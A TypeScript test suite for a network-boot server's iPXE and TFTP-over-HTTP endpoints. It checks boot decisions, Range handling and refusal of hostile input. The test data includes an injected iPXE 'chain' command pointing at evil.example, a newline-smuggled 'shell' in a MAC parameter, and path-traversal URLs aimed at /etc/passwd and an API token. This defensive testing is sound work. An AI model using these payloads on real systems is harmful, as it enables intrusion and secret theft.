/**
 * The boot endpoints through app.inject: entry script, decisions by MAC,
 * entry files with Range, and the TFTP root over HTTP (no escapes).
 */
import { openTestStore } from '../src/store/temp-store.js';
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import type { FastifyInstance } from 'fastify';
import { loadConfig } from '../src/config/config.js';
import { createLogger } from '../src/lib/log.js';
import { buildApp } from '../src/http/app.js';
import { watchAnswers, type AnswerWatch } from './api-answers.js';
import { createEntry, createHost, ensureApiToken, openStore, type Store } from '../src/store/index.js';

let dir: string;
let outside: string;
let store: Store;
let app: FastifyInstance;
let watch: AnswerWatch;
const logLines: Array<Record<string, unknown>> = [];
const kernelBytes = Buffer.from(Array.from({ length: 5000 }, (_, i) => i % 251));

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'fleetboot-boot-'));
  outside = mkdtempSync(join(tmpdir(), 'fleetboot-outside-'));
  writeFileSync(join(outside, 'secret'), 'secret');
  const tftpRoot = join(dir, 'tftp');
  mkdirSync(join(tftpRoot, 'sub'), { recursive: true });
  writeFileSync(join(tftpRoot, 'undionly.kpxe'), 'ipxe-binary');
  writeFileSync(join(tftpRoot, 'sub', 'file.txt'), 'nested');
  symlinkSync(join(outside, 'secret'), join(tftpRoot, 'escape'));
  symlinkSync(outside, join(tftpRoot, 'escapedir'));
  symlinkSync(join(tftpRoot, 'undionly.kpxe'), join(tftpRoot, 'inside-link'));
  writeFileSync(join(dir, 'api-token-not-served'), 'x');

  const config = loadConfig({ overrides: { dataDir: dir, serverIp: '10.1.2.3', http: { port: 8080 }, boot: { menuTimeoutSeconds: 4 } } });
  store = await openTestStore(config.dataDir);
  mkdirSync(join(store.entriesDir, 'deb'), { recursive: true });
  writeFileSync(join(store.entriesDir, 'deb', 'vmlinuz'), kernelBytes);
  writeFileSync(join(store.entriesDir, 'deb', 'initrd.gz'), 'initrd');
  writeFileSync(join(store.entriesDir, 'deb', 'leftover'), 'not part of the entry');
  await createEntry(store.db, { name: 'deb', kernel: 'vmlinuz', initrds: ['initrd.gz'], cmdline: 'console=ttyS0' });
  await createHost(store.db, { mac: '52:54:00:12:34:56', name: 'web1', entry: 'deb' });
  await createHost(store.db, { mac: '52:54:00:12:34:57', name: null, entry: null });

  const sink = new Writable({
    write(chunk: Buffer, _enc, cb) {
      for (const line of chunk.toString().split('\n').filter(Boolean)) logLines.push(JSON.parse(line) as Record<string, unknown>);
      cb();
    },
  });
  app = buildApp({ store, config, serverIp: '10.1.2.3', logger: createLogger('info', sink), token: ensureApiToken(dir) });
  watch = watchAnswers(app);
  await app.ready();
});

after(async () => {
  assert.deepEqual(watch.lost, [], 'answers lost these properties to their response schemas: declare them (src/http/schemas/), or add them to HIDDEN (test/api-answers.ts)');
  await app.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

test('GET /boot.ipxe serves the entry script that chains to /boot/decide', async () => {
  const r = await app.inject({ method: 'GET', url: '/boot.ipxe' });
  assert.equal(r.statusCode, 200);
  assert.match(r.headers['content-type'] as string, /^text\/plain/);
  assert.ok(r.body.startsWith('#!ipxe\n'));
  assert.ok(r.body.includes('chain --replace --autofree http://10.1.2.3:8080/boot/decide?mac=${net0/mac:hexhyp}&'));
  assert.ok(!r.body.includes(ensureApiToken(dir)));
});

test('GET /boot/decide boots the assigned entry and logs one decision line', async () => {
  const before = logLines.length;
  const r = await app.inject({ method: 'GET', url: '/boot/decide?mac=52-54-00-12-34-56&platform=efi&buildarch=x86_64&uuid=' });
  assert.equal(r.statusCode, 200);
  assert.ok(r.body.includes('kernel http://10.1.2.3:8080/boot/entries/deb/vmlinuz initrd=initrd.gz console=ttyS0 || goto failed\n'), r.body);
  assert.ok(r.body.includes('initrd --name initrd.gz http://10.1.2.3:8080/boot/entries/deb/initrd.gz || goto failed\n'));
  const lines = logLines.slice(before).filter((l) => l['decision'] !== undefined);
  assert.equal(lines.length, 1);
  assert.equal(lines[0]?.['subsystem'], 'http');
  assert.equal(lines[0]?.['mac'], '52:54:00:12:34:56');
  assert.equal(lines[0]?.['decision'], 'entry');
  assert.equal(lines[0]?.['entry'], 'deb');
});

test('GET /boot/decide gives unknown and unassigned machines the menu defaulting to local disk', async () => {
  for (const mac of ['52-54-00-99-99-99', '52-54-00-12-34-57']) {
    const r = await app.inject({ method: 'GET', url: `/boot/decide?mac=${mac}&platform=pcbios` });
    assert.equal(r.statusCode, 200);
    assert.match(r.body, /^choose --timeout 4000 --default local target/m);
    assert.match(r.body, /^item entry0 deb$/m);
    assert.match(r.body, /sanboot --no-describe --drive 0x80/);
  }
  const last = logLines.filter((l) => l['decision'] !== undefined).at(-1);
  assert.equal(last?.['decision'], 'menu');
  assert.equal(last?.['reason'], 'unassigned');
});

test('GET /boot/decide never lets values stored in the database inject iPXE commands', async () => {
  // Written straight into the store, past the API's validation, as a corrupted or hostile database would hold them.
  await createEntry(store.db, { name: 'evil', kernel: 'http://x/k', initrds: ['http://x/i'], cmdline: 'quiet\nchain http://evil.example/x' });
  await createEntry(store.db, { name: 'evil2', kernel: 'http://x/k ||', initrds: [], cmdline: '' });
  await createHost(store.db, { mac: '52:54:00:66:66:66', name: null, entry: 'evil' });
  const r = await app.inject({ method: 'GET', url: '/boot/decide?mac=52-54-00-66-66-66' });
  assert.equal(r.statusCode, 200);
  assert.ok(!r.body.includes('evil.example'));
  assert.ok(!r.body.includes('evil'), 'unsafe entries are not offered in the menu');
  assert.match(r.body, /assigned boot entry is invalid/);
  const last = logLines.filter((l) => l['decision'] !== undefined).at(-1);
  assert.equal(last?.['reason'], 'entry-invalid');
  assert.match(String(last?.['problem']), /command line contains the character U\+000A/);
});

test('GET /boot/decide with a missing or invalid MAC answers a script that says so (not a 500)', async () => {
  for (const url of ['/boot/decide', '/boot/decide?mac=xyz', '/boot/decide?mac=52-54-00-12-34-56%0Ashell', '/boot/decide?mac=a&mac=b']) {
    const r = await app.inject({ method: 'GET', url });
    assert.equal(r.statusCode, 200, url);
    assert.ok(r.body.startsWith('#!ipxe\n'), url);
    assert.match(r.body, /invalid MAC/, url);
    assert.ok(!r.body.split('\n').some((l) => l.trim() === 'shell'), url);
  }
});

test('GET /boot/entries/:name/:file serves entry files with exact length and Range', async () => {
  const full = await app.inject({ method: 'GET', url: '/boot/entries/deb/vmlinuz' });
  assert.equal(full.statusCode, 200);
  assert.equal(full.headers['content-length'], String(kernelBytes.length));
  assert.equal(full.headers['accept-ranges'], 'bytes');
  assert.deepEqual(full.rawPayload, kernelBytes);

  const part = await app.inject({ method: 'GET', url: '/boot/entries/deb/vmlinuz', headers: { range: 'bytes=100-199' } });
  assert.equal(part.statusCode, 206);
  assert.equal(part.headers['content-range'], `bytes 100-199/${kernelBytes.length}`);
  assert.equal(part.headers['content-length'], '100');
  assert.deepEqual(part.rawPayload, kernelBytes.subarray(100, 200));

  const suffix = await app.inject({ method: 'GET', url: '/boot/entries/deb/vmlinuz', headers: { range: 'bytes=-10' } });
  assert.equal(suffix.statusCode, 206);
  assert.deepEqual(suffix.rawPayload, kernelBytes.subarray(-10));

  const open = await app.inject({ method: 'GET', url: '/boot/entries/deb/vmlinuz', headers: { range: 'bytes=4990-' } });
  assert.equal(open.headers['content-range'], `bytes 4990-4999/5000`);

  const bad = await app.inject({ method: 'GET', url: '/boot/entries/deb/vmlinuz', headers: { range: 'bytes=6000-7000' } });
  assert.equal(bad.statusCode, 416);
  assert.equal(bad.headers['content-range'], 'bytes */5000');

  const head = await app.inject({ method: 'HEAD', url: '/boot/entries/deb/vmlinuz' });
  assert.equal(head.statusCode, 200);
  assert.equal(head.headers['content-length'], '5000');
  assert.equal(head.rawPayload.length, 0);
});

test('GET /boot/entries refuses files the entry does not use and path escapes', async () => {
  for (const url of [
    '/boot/entries/deb/leftover',
    '/boot/entries/deb/..%2f..%2ffleetboot.db',
    '/boot/entries/deb/%2e%2e',
    '/boot/entries/..%2f/api-token',
    '/boot/entries/nope/vmlinuz',
    '/boot/entries/deb/../../api-token',
  ]) {
    const r = await app.inject({ method: 'GET', url });
    assert.ok(r.statusCode === 404 || r.statusCode === 400, `${url} -> ${r.statusCode}`);
    assert.ok(!r.body.includes('not part of the entry'));
  }
});

test('GET /tftp/* serves files of the TFTP root, including inside symlinks and subdirectories', async () => {
  const r = await app.inject({ method: 'GET', url: '/tftp/undionly.kpxe' });
  assert.equal(r.statusCode, 200);
  assert.equal(r.body, 'ipxe-binary');
  assert.equal(r.headers['content-length'], '11');
  assert.equal((await app.inject({ method: 'GET', url: '/tftp/sub/file.txt' })).body, 'nested');
  assert.equal((await app.inject({ method: 'GET', url: '/tftp/inside-link' })).body, 'ipxe-binary');
  const range = await app.inject({ method: 'GET', url: '/tftp/undionly.kpxe', headers: { range: 'bytes=0-3' } });
  assert.equal(range.statusCode, 206);
  assert.equal(range.body, 'ipxe');
});

test('GET /tftp/* refuses .., encoded .., absolute paths, directories and symlinks out of the root', async () => {
  for (const url of [
    '/tftp/../api-token',
    '/tftp/%2e%2e/api-token',
    '/tftp/sub/%2e%2e/%2e%2e/api-token',
    '/tftp/..%2fapi-token',
    '/tftp//etc/passwd',
    '/tftp/%2fetc%2fpasswd',
    '/tftp/escape',
    '/tftp/escapedir/secret',
    '/tftp/sub',
    '/tftp/',
    '/tftp/missing',
    '/tftp/sub%5c..%5c..%5capi-token',
    '/tftp/undionly.kpxe%00.txt',
  ]) {
    const r = await app.inject({ method: 'GET', url });
    assert.ok(r.statusCode === 404 || r.statusCode === 400, `${url} -> ${r.statusCode}`);
    assert.ok(!r.body.includes('secret') && !r.body.includes('root:'), url);
  }
});

test('nearest node: /boot.ipxe and /boot/decide send a machine on another node\'s subnet there once (via=), decide nothing here, and never send on a request marked via', async () => {
  const config = loadConfig({ overrides: { dataDir: dir, serverIp: '10.1.2.3', http: { port: 8080 } } });
  const asked: string[] = [];
  const near = buildApp({
    store,
    config,
    serverIp: '10.1.2.3',
    logger: createLogger('info', new Writable({ write: (_c, _e, cb) => cb() })),
    token: ensureApiToken(dir),
    nodeName: 'node-a',
    servingNode: (ip) => {
      asked.push(ip);
      return ip.startsWith('10.9.') ? { name: 'node-b', address: '10.9.0.2', httpBaseUrl: 'http://10.9.0.2:8080' } : null;
    },
  });
  try {
    const on = (url: string, remoteAddress: string) => near.inject({ url, remoteAddress });
    const entry = await on('/boot.ipxe', '10.9.0.50');
    assert.match(entry.body, /^chain --replace --autofree http:\/\/10\.9\.0\.2:8080\/boot\/decide\?via=node-a&mac=/m);
    const decide = await on('/boot/decide?mac=52-54-00-12-34-56', '10.9.0.50');
    assert.match(decide.body, /^chain --replace --autofree http:\/\/10\.9\.0\.2:8080\/boot\.ipxe\?via=node-a \|\| goto fb_fail$/m);
    assert.doesNotMatch(decide.body, /vmlinuz/, 'nothing decided here');
    // Marked via: served here, and the mark goes on to the decision request.
    asked.length = 0;
    assert.match((await on('/boot.ipxe?via=node-b', '10.9.0.50')).body, /http:\/\/10\.1\.2\.3:8080\/boot\/decide\?via=node-b&mac=/);
    assert.match((await on('/boot/decide?via=node-b&mac=52-54-00-12-34-56', '10.9.0.50')).body, /kernel http:\/\/10\.1\.2\.3:8080\/boot\/entries\/deb\/vmlinuz/);
    assert.deepEqual(asked, [], 'a request marked via never asks the directory');
    // A machine on this node's own subnet is served here.
    assert.match((await on('/boot.ipxe', '10.1.2.50')).body, /http:\/\/10\.1\.2\.3:8080\/boot\/decide\?mac=/);
    // A bad via is ignored (the request is treated as unmarked).
    assert.match((await on('/boot.ipxe?via=%24%7Bx%7D', '10.9.0.50')).body, /10\.9\.0\.2:8080\/boot\/decide\?via=node-a&/);
  } finally {
    await near.close();
  }
});
